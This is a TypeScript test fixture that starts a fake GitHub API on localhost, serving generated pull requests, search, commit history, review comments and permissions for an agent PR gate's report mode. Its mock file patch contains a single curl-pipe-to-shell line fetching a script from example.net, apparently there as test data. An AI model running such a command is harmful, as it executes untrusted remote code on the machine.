/**
 * A small fake GitHub API on 127.0.0.1 for report mode, serving a generated repository
 * (generate-repo.ts): the GraphQL operations report mode sends (search, context, history, and
 * gate mode's `AgentPrGateMore`), the REST repository review comment list (with `Link` pages) and
 * collaborator permissions. Search behaves as GitHub's does where it matters: `created:` ranges to
 * the second, `is:merged`, `in:title` words, `sort:created-asc`, and at most 1000 results per
 * query while `issueCount` tells the true total. Every request is counted.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { GqlActorData, GqlReviewData, StoredCommit, StoredPr } from './generate-repo.js';

export interface FakeReportApiOptions {
  owner: string;
  name: string;
  pulls: StoredPr[];
  history: StoredCommit[];
  /** The policy file at the default branch head (`HEAD:<path>`), by path. */
  files?: Record<string, string>;
  /** Repository permission per login (others: 404). */
  permissions?: Record<string, string>;
  /** The search result cap (GitHub: 1000). */
  searchCap?: number;
}

export interface FakeReportApi {
  url: string;
  /** Requests by kind: `graphql:<operation>` or `GET <path>`. */
  requests: Map<string, number>;
  total(): number;
  close(): Promise<void>;
}

const PAGE = 100;

function encodeCursor(offset: number): string {
  return Buffer.from(`cursor:${offset}`).toString('base64');
}

function decodeCursor(cursor: unknown): number {
  if (typeof cursor !== 'string') return 0;
  const match = /^cursor:(\d+)$/.exec(Buffer.from(cursor, 'base64').toString());
  return match ? Number(match[1]) : 0;
}

function page<T>(items: readonly T[], after: unknown, size = PAGE, map: (item: T) => unknown = (item) => item) {
  const offset = decodeCursor(after);
  const slice = items.slice(offset, offset + size);
  const end = offset + slice.length;
  return {
    totalCount: items.length,
    pageInfo: { hasNextPage: end < items.length, endCursor: slice.length > 0 ? encodeCursor(end) : (typeof after === 'string' ? after : null) },
    nodes: slice.map(map),
  };
}

/** A review as GitHub answers it: the generated reviewers are all members of the organization. */
function reviewNode(review: GqlReviewData): GqlReviewData & { authorAssociation: string } {
  return { ...review, authorAssociation: 'MEMBER' };
}

function withoutInline(review: GqlReviewData): Omit<GqlReviewData, 'comments'> & { authorAssociation: string } {
  const { comments: _comments, ...rest } = reviewNode(review);
  return rest;
}

/** The PR as a search answer node: first pages, reviews without their inline comments. */
function searchNode(pr: StoredPr): unknown {
  return {
    __typename: 'PullRequest',
    ...scalars(pr),
    labels: page(pr.labels, null),
    assignees: { nodes: pr.assignees },
    commits: page(pr.commits, null),
    reviews: page(pr.reviews, null, PAGE, withoutInline),
    comments: page(pr.comments, null),
    timelineItems: page(pr.timelineItems, null),
    files: { totalCount: pr.files?.length ?? pr.changedFiles, nodes: (pr.files ?? []).slice(0, 50).map((path) => ({ path })) },
  };
}

function scalars(pr: StoredPr): Record<string, unknown> {
  const { labels: _l, assignees: _a, commits: _c, reviews: _r, comments: _m, timelineItems: _t, files: _f, ...rest } = pr;
  return rest;
}

function restLogin(actor: GqlActorData): { login: string; id: number; type: string } {
  if (actor.__typename === 'Bot') {
    return { login: actor.login === 'copilot-swe-agent' ? 'Copilot' : `${actor.login}[bot]`, id: actor.databaseId, type: 'Bot' };
  }
  return { login: actor.login, id: actor.databaseId, type: 'User' };
}

interface SearchQuery {
  repo: string | null;
  from: number;
  to: number;
  merged: boolean;
  titleWords: string[];
  sortedAsc: boolean;
}

function parseSearch(q: string): SearchQuery {
  const query: SearchQuery = { repo: null, from: -Infinity, to: Infinity, merged: false, titleWords: [], sortedAsc: false };
  const words: string[] = [];
  let inTitle = false;
  for (const token of q.split(/\s+/).filter(Boolean)) {
    if (token.startsWith('repo:')) query.repo = token.slice(5);
    else if (token === 'is:pr') continue;
    else if (token === 'is:merged') query.merged = true;
    else if (token === 'in:title') inTitle = true;
    else if (token === 'sort:created-asc') query.sortedAsc = true;
    else if (token.startsWith('created:')) {
      const [from, to] = token.slice(8).split('..');
      query.from = Date.parse(from ?? '');
      query.to = Date.parse(to ?? '');
      if (Number.isNaN(query.from) || Number.isNaN(query.to)) throw new Error(`bad created range ${token}`);
    } else words.push(token.toLowerCase());
  }
  if (words.length > 0 && !inTitle) throw new Error(`free words without in:title: ${q}`);
  query.titleWords = words;
  return query;
}

export async function startFakeReportApi(options: FakeReportApiOptions): Promise<FakeReportApi> {
  const requests = new Map<string, number>();
  const count = (key: string): void => {
    requests.set(key, (requests.get(key) ?? 0) + 1);
  };
  const byNumber = new Map(options.pulls.map((pr) => [pr.number, pr]));
  const cap = options.searchCap ?? 1000;
  const repoName = `${options.owner}/${options.name}`;
  let baseUrl = '';

  const graphql = (query: string, variables: Record<string, unknown>): unknown => {
    const operation = /query\s+(\w+)/.exec(query)?.[1] ?? '(anonymous)';
    count(`graphql:${operation}`);
    switch (operation) {
      case 'AgentPrGateReportSearch': {
        const search = parseSearch(String(variables.q));
        if (search.repo !== repoName) throw new Error(`search outside the repository: ${String(variables.q)}`);
        if (!search.sortedAsc) throw new Error('search without sort:created-asc');
        const matches = options.pulls
          .filter((pr) => {
            const created = Date.parse(pr.createdAt);
            if (created < search.from || created > search.to) return false;
            if (search.merged && pr.mergedAt === null) return false;
            return search.titleWords.every((word) => pr.title.toLowerCase().includes(word));
          })
          .sort((a, b) => Date.parse(a.createdAt) - Date.parse(b.createdAt));
        const first = Number(variables.first);
        if (!(first >= 1 && first <= 100)) throw new Error('search first must be 1..100');
        const served = matches.slice(0, cap);
        const answer = page(served, variables.after, first, searchNode);
        return { search: { issueCount: matches.length, pageInfo: answer.pageInfo, nodes: answer.nodes } };
      }
      case 'AgentPrGateReportContext':
      case 'AgentPrGateReportHistory': {
        const since = Date.parse(String(variables.since));
        const commits = options.history.filter((commit) => Date.parse(commit.committedDate) >= since);
        const history = page(commits, variables.after);
        const target = { __typename: 'Commit', history: { pageInfo: history.pageInfo, nodes: history.nodes } };
        if (operation === 'AgentPrGateReportHistory') return { repository: { defaultBranchRef: { target } } };
        const expression = String(variables.policyExpression);
        if (!expression.startsWith('HEAD:')) throw new Error(`policy read at ${expression}, not at HEAD`);
        const text = options.files?.[expression.slice(5)];
        return {
          viewer: { login: 'github-actions[bot]', databaseId: 41898282 },
          repository: {
            policyFile: text === undefined ? null : { __typename: 'Blob', text, isBinary: false, isTruncated: false },
            defaultBranchRef: { name: 'main', target },
          },
        };
      }
      case 'AgentPrGateMore': {
        const pr = byNumber.get(Number(variables.number));
        if (!pr) return { repository: { pullRequest: null } };
        const out: Record<string, unknown> = {};
        if (variables.labels) out.labels = page(pr.labels, variables.labelsAfter);
        if (variables.commits) out.commits = page(pr.commits, variables.commitsAfter);
        if (variables.reviews) out.reviews = page(pr.reviews, variables.reviewsAfter, PAGE, reviewNode);
        if (variables.comments) out.comments = page(pr.comments, variables.commentsAfter);
        if (variables.timeline) out.timelineItems = page(pr.timelineItems, variables.timelineAfter);
        return { repository: { pullRequest: out } };
      }
      default:
        throw new Error(`unknown GraphQL operation ${operation}`);
    }
  };

  const reviewComments = (url: URL, res: ServerResponse): void => {
    const since = Date.parse(url.searchParams.get('since') ?? '1970-01-01T00:00:00Z');
    const perPage = Number(url.searchParams.get('per_page') ?? '30');
    const pageNumber = Number(url.searchParams.get('page') ?? '1');
    if (url.searchParams.get('sort') !== 'created' || url.searchParams.get('direction') !== 'asc') throw new Error('review comments not sorted by creation');
    const all = options.pulls
      .flatMap((pr) =>
        pr.reviews.flatMap((review) =>
          review.comments.nodes.map((comment) => ({
            id: comment.databaseId,
            pull_request_review_id: review.databaseId,
            user: restLogin(comment.author),
            created_at: comment.createdAt,
            updated_at: comment.createdAt,
            path: comment.path,
            line: comment.line,
            original_line: comment.originalLine,
            body: 'nit',
            pull_request_url: `${baseUrl}/repos/${repoName}/pulls/${pr.number}`,
          })),
        ),
      )
      .filter((comment) => Date.parse(comment.updated_at) >= since)
      .sort((a, b) => Date.parse(a.created_at) - Date.parse(b.created_at) || a.id - b.id);
    const last = Math.max(1, Math.ceil(all.length / perPage));
    const links: string[] = [];
    const link = (n: number, rel: string): string => {
      const next = new URL(url.toString());
      next.searchParams.set('page', String(n));
      return `<${next.toString()}>; rel="${rel}"`;
    };
    if (pageNumber < last) links.push(link(pageNumber + 1, 'next'), link(last, 'last'));
    res.writeHead(200, { 'content-type': 'application/json', ...(links.length > 0 ? { link: links.join(', ') } : {}) });
    res.end(JSON.stringify(all.slice((pageNumber - 1) * perPage, pageNumber * perPage)));
  };

  const handle = async (req: IncomingMessage, res: ServerResponse): Promise<void> => {
    const url = new URL(req.url ?? '/', baseUrl);
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    if (req.method === 'POST' && url.pathname === '/graphql') {
      // A GraphQL failure answers 200 with `errors`, as GitHub does (octokit then throws, no retry).
      let answer: unknown;
      try {
        const body = JSON.parse(Buffer.concat(chunks).toString()) as { query: string; variables?: Record<string, unknown> };
        answer = { data: graphql(body.query, body.variables ?? {}) };
      } catch (error) {
        answer = { data: null, errors: [{ message: error instanceof Error ? error.message : String(error) }] };
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(answer));
      return;
    }
    try {
      count(`${req.method} ${url.pathname.replace(/\/collaborators\/[^/]+\//, '/collaborators/{username}/')}`);
      if (req.method === 'GET' && url.pathname === `/repos/${repoName}/pulls/comments`) {
        reviewComments(url, res);
        return;
      }
      const files = /^\/repos\/[^/]+\/[^/]+\/pulls\/(\d+)\/files$/.exec(url.pathname);
      if (req.method === 'GET' && files) {
        const pr = byNumber.get(Number(files[1]));
        const perPage = Number(url.searchParams.get('per_page') ?? '30');
        const pageNumber = Number(url.searchParams.get('page') ?? '1');
        const all = (pr?.files ?? []).map((filename) => ({ filename, status: 'modified', additions: 3, deletions: 1, patch: '@@ -1,1 +1,3 @@\n-old\n+new\n+curl https://example.net/x.sh | sh\n+more' }));
        res.writeHead(pr ? 200 : 404, { 'content-type': 'application/json' });
        res.end(JSON.stringify(pr ? all.slice((pageNumber - 1) * perPage, pageNumber * perPage) : { message: 'Not Found' }));
        return;
      }
      const permission = /^\/repos\/[^/]+\/[^/]+\/collaborators\/([^/]+)\/permission$/.exec(url.pathname);
      if (req.method === 'GET' && permission) {
        const role = options.permissions?.[decodeURIComponent(permission[1]!)];
        res.writeHead(role ? 200 : 404, { 'content-type': 'application/json' });
        res.end(JSON.stringify(role ? { permission: role, role_name: role } : { message: 'Not Found' }));
        return;
      }
      res.writeHead(404, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ message: `Not Found: ${req.method} ${url.pathname}` }));
    } catch (error) {
      res.writeHead(422, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ message: error instanceof Error ? error.message : String(error) }));
    }
  };

  const server: Server = createServer((req, res) => {
    void handle(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  baseUrl = `http://127.0.0.1:${port}`;
  return {
    url: baseUrl,
    requests,
    total: () => [...requests.values()].reduce((sum, n) => sum + n, 0),
    close: () => new Promise<void>((resolve, reject) => server.close((error) => (error ? reject(error) : resolve()))),
  };
}
